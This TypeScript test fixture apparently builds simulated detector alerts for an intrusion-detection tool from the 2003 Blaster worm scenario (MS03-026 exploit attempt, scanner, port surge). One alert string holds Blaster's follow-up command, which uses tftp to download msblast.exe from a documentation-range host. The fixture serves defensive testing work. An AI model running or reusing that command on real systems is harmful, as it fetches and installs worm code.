// Alerts as Vigil's detectors raise them on the 2003 story, for the share tests: an MS03-026 exploit,
// Blaster's tftp command in the bind shell, an IPv6 scanner, a shell command with quotes, a port surge.

import { makeAlert } from '../../src/detect/alert-factory.js';
import { extractIndicators } from '../../src/detect/indicator-extract.js';
import type { Alert } from '../../src/model/alert.js';

export const T0 = Date.UTC(2003, 7, 11, 16, 0, 0);

/** Alerts as the detectors raise them on the 2003 story: an exploit, Blaster's tftp command, a scanner, a surge. */
export function storyAlerts(): Alert[] {
  const blasterCmd = 'tftp -i 198.51.100.7 GET msblast.exe';
  return [
    makeAlert({ ts: T0, detector: 'exploit', rule: 'ms03_026_unc_server', severity: 'critical', title: 'MS03-026 exploit attempt from 198.51.100.7', cves: ['CVE-2003-0352'], src: '198.51.100.7', dport: 135, indicators: [{ type: 'ipv4-addr', value: '198.51.100.7' }] }),
    makeAlert({ ts: T0 + 2000, detector: 'exploit', rule: 'exploit_followup_command', severity: 'critical', title: `command: ${blasterCmd}`, cves: ['CVE-2003-0352'], src: '198.51.100.7', dport: 4444, indicators: [{ type: 'ipv4-addr', value: '198.51.100.7' }, ...extractIndicators(blasterCmd)] }),
    makeAlert({ ts: T0 + 60_000, detector: 'trw', rule: 'trw_scanner', severity: 'medium', title: 'scanner 2001:db8::66 on 135', src: '2001:db8::66', dport: 135, indicators: [] }),
    makeAlert({ ts: T0 + 90_000, detector: 'exploit', rule: 'shell_command', severity: 'high', title: "quote ' and back\\slash", src: '203.0.113.9', dport: 4444, indicators: [{ type: 'command', value: "echo 'x' \\ y" }] }),
    makeAlert({ ts: T0 + 120_000, detector: 'surge', rule: 'port_surge', severity: 'high', title: 'surge on 135', cves: ['CVE-2003-0352', 'CVE-2003-0528'], dport: 135, indicators: [] }),
  ];
}

